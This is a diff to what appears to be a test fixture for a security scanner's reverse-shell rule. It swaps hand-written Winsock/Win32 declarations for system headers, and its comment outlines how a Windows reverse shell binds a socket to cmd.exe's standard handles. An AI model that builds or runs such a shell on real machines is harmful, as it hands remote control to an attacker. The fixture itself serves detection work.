@@ -1,40 +1,13 @@
 // behavior.reverse-shell on Windows: WSASocket + WSAConnect to a literal
 // address, the socket handle placed in STARTUPINFO's hStdInput/hStdOutput/
 // hStdError and cmd.exe started with CreateProcessA and inherited handles -
-// the Win32 form of dup2 + exec. The Winsock/Win32 declarations are written
-// out (windows.h is not available here).
+// the Win32 form of dup2 + exec. It includes <winsock2.h> and <windows.h>;
+// Sluice's bundled declarations serve them when the Windows SDK is not
+// installed.
+#include <winsock2.h>
+#include <windows.h>
+
 #include <cstring>
-
-extern "C" {
-typedef int BOOL;
-typedef unsigned long DWORD;
-typedef unsigned short WORD;
-typedef void *HANDLE;
-typedef unsigned long long SOCKET;
-struct sockaddr { unsigned short sa_family; char sa_data[14]; };
-struct in_addr { unsigned long s_addr; };
-struct sockaddr_in { short sin_family; unsigned short sin_port; struct in_addr sin_addr; char sin_zero[8]; };
-typedef struct WSAData { WORD wVersion; WORD wHighVersion; char szDescription[257]; } WSADATA;
-typedef struct _STARTUPINFOA {
-    DWORD cb; char *lpReserved, *lpDesktop, *lpTitle;
-    DWORD dwX, dwY, dwXSize, dwYSize, dwXCountChars, dwYCountChars, dwFillAttribute, dwFlags;
-    WORD wShowWindow, cbReserved2; unsigned char *lpReserved2;
-    HANDLE hStdInput, hStdOutput, hStdError;
-} STARTUPINFOA;
-typedef struct _PROCESS_INFORMATION { HANDLE hProcess, hThread; DWORD pid, tid; } PROCESS_INFORMATION;
-int WSAStartup(WORD wVersionRequested, WSADATA *lpWSAData);
-SOCKET WSASocketA(int af, int type, int protocol, void *lpProtocolInfo, unsigned g, DWORD dwFlags);
-int WSAConnect(SOCKET s, const struct sockaddr *name, int namelen, void *a, void *b, void *c, void *d);
-unsigned long inet_addr(const char *cp);
-unsigned short htons(unsigned short hostshort);
-BOOL CreateProcessA(const char *lpApplicationName, char *lpCommandLine, void *lpProcessAttributes,
-                    void *lpThreadAttributes, BOOL bInheritHandles, DWORD dwCreationFlags, void *lpEnvironment,
-                    const char *lpCurrentDirectory, STARTUPINFOA *lpStartupInfo, PROCESS_INFORMATION *lpProcessInformation);
-DWORD WaitForSingleObject(HANDLE hHandle, DWORD dwMilliseconds);
-}
-
-#define STARTF_USESTDHANDLES 0x00000100
-#define INFINITE 0xFFFFFFFF
 
 int main()
 {
